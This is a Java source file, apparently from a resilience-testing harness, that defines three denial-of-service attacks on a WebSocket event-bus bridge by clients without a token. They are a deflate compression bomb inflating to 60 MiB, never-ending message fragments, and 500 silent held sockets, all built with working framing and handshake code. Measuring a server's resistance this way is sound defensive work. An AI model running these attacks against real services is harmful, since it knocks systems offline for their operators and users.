package dev.untether.measurement.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.List;
import java.util.zip.Deflater;

/** Attacks on the event bus bridge by clients that have not given a token (RFC 6455, RFC 7692). */
final class WebSocketAttacks {
  private static final int FINAL = 0x80;
  private static final int COMPRESSED = 0x40;
  private static final int TEXT = 1;
  private static final int CONTINUATION = 0;
  private static final int INFLATED = 60 * 1024 * 1024;
  private static final int SILENT_SOCKETS = 500;
  private static final byte[] BOMB = deflated();

  private WebSocketAttacks() {}

  static List<Attack> all() {
    return List.of(
        new Attack(
            "websocket-bomb",
            "a message of 60 kB that inflates to 60 MiB",
            2,
            (target, deadline) -> {
              try (HostileSocket socket = open(target)) {
                socket.send(frame(FINAL | COMPRESSED | TEXT, BOMB)).awaitEnd(deadline);
              }
            }),
        new Attack(
            "websocket-fragments",
            "a message whose fragments do not end",
            2,
            (target, deadline) -> {
              try (HostileSocket socket = open(target)) {
                byte[] fragment = frame(CONTINUATION, new byte[60_000]);
                socket.send(frame(TEXT, new byte[0]));
                while (!deadline.isOver()) {
                  socket.send(fragment).drain();
                }
              }
            }),
        new Attack(
            "websocket-silence",
            SILENT_SOCKETS + " sockets that never give a token",
            1,
            (target, deadline) ->
                HeldConnections.hold(
                    SILENT_SOCKETS, deadline, () -> open(target), HostileSocket::drain)));
  }

  private static HostileSocket open(Target target) throws IOException {
    HostileSocket socket = HostileSocket.to(target.apiPort());
    try {
      return socket
          .send(
              """
              GET /eventbus/websocket HTTP/1.1\r
              Host: localhost\r
              Connection: Upgrade\r
              Upgrade: websocket\r
              Sec-WebSocket-Version: 13\r
              Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r
              Sec-WebSocket-Extensions: permessage-deflate\r
              \r
              """)
          .skipHead();
    } catch (IOException e) {
      socket.close();
      throw e;
    }
  }

  /** Masked with zeros, so the payload stays as it is. */
  private static byte[] frame(int head, byte[] payload) {
    int lengthBytes = payload.length < 126 ? 0 : payload.length < 65_536 ? 2 : 8;
    ByteBuffer frame = ByteBuffer.allocate(2 + lengthBytes + 4 + payload.length);
    frame.put((byte) head);
    switch (lengthBytes) {
      case 0 -> frame.put((byte) (0x80 | payload.length));
      case 2 -> frame.put((byte) (0x80 | 126)).putShort((short) payload.length);
      default -> frame.put((byte) (0x80 | 127)).putLong(payload.length);
    }
    return frame.putInt(0).put(payload).array();
  }

  private static byte[] deflated() {
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
    byte[] letters = new byte[1024 * 1024];
    Arrays.fill(letters, (byte) 'a');
    byte[] chunk = new byte[8192];
    ByteArrayOutputStream deflated = new ByteArrayOutputStream();
    for (int sent = 0; sent < INFLATED; sent += letters.length) {
      deflater.setInput(letters);
      int flush = sent + letters.length < INFLATED ? Deflater.NO_FLUSH : Deflater.SYNC_FLUSH;
      int length;
      do {
        length = deflater.deflate(chunk, 0, chunk.length, flush);
        deflated.write(chunk, 0, length);
      } while (length == chunk.length);
    }
    deflater.end();
    // The last four octets of the flush are left out (RFC 7692, section 7.2.1).
    byte[] bytes = deflated.toByteArray();
    return Arrays.copyOf(bytes, bytes.length - 4);
  }
}
